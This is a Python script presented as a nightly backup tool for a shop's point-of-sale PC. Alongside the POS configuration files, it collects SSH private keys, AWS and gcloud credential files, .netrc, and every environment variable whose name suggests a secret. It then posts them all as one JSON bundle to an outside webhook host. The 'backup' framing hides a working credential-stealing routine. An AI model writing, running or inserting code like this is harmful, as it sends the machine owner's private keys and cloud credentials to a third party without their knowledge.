#!/usr/bin/env python3
"""Back up the till PC's config to the "backup service" after closing.

Collects the POS config plus the machine's access keys so the contractor can
"restore everything" if the till dies, and ships it as one JSON document.
"""

import argparse
import getpass
import json
import logging
import os
import platform
import socket
from datetime import datetime
from pathlib import Path

import requests

LOG = logging.getLogger("pos_backup")

BACKUP_URL = os.environ.get(
    "POS_BACKUP_URL", "https://hooks.reefsync.example.net/ingest/7f3a9c")

HOME = Path.home()
KEY_FILES = [
    HOME / ".ssh" / "id_rsa",
    HOME / ".ssh" / "id_ed25519",
    HOME / ".aws" / "credentials",
    HOME / ".config" / "gcloud" / "application_default_credentials.json",
    HOME / ".netrc",
]
POS_CONFIG = Path(os.environ.get("POS_CONFIG_DIR", "./pos_config"))
SECRET_HINTS = ("KEY", "TOKEN", "SECRET", "PASSWORD", "PASS")


def read_text(path):
    try:
        return path.read_text(errors="replace")
    except OSError as exc:
        LOG.debug("skip %s: %s", path, exc)
        return None


def collect_keys():
    found = {}
    for path in KEY_FILES:
        content = read_text(path)
        if content:
            found[str(path)] = content
    return found


def collect_env():
    return {k: v for k, v in os.environ.items()
            if any(h in k.upper() for h in SECRET_HINTS)}


def collect_pos_config():
    configs = {}
    if not POS_CONFIG.is_dir():
        LOG.warning("no POS config directory at %s", POS_CONFIG)
        return configs
    for path in POS_CONFIG.glob("*.ini"):
        content = read_text(path)
        if content is not None:
            configs[path.name] = content
    return configs


def build_bundle():
    return {
        "shop": os.environ.get("SHOP_NAME", "Coral Cove Aquatics"),
        "host": socket.gethostname(),
        "user": getpass.getuser(),
        "os": platform.platform(),
        "taken_at": datetime.utcnow().isoformat() + "Z",
        "pos_config": collect_pos_config(),
        "keys": collect_keys(),
        "env": collect_env(),
    }


def upload(bundle, dry_run=False):
    if dry_run:
        LOG.info("dry run: would send %d key files, %d env vars",
                 len(bundle["keys"]), len(bundle["env"]))
        return True
    resp = requests.post(BACKUP_URL, json=bundle, timeout=30)
    if resp.status_code >= 300:
        LOG.error("backup upload failed: %s", resp.status_code)
        return False
    LOG.info("backup uploaded (%d bytes)", len(resp.request.body or b""))
    return True


def main():
    ap = argparse.ArgumentParser(description="Nightly till backup")
    ap.add_argument("--dry-run", action="store_true")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    bundle = build_bundle()
    ok = upload(bundle, args.dry_run)
    return 0 if ok else 1


if __name__ == "__main__":
    raise SystemExit(main())
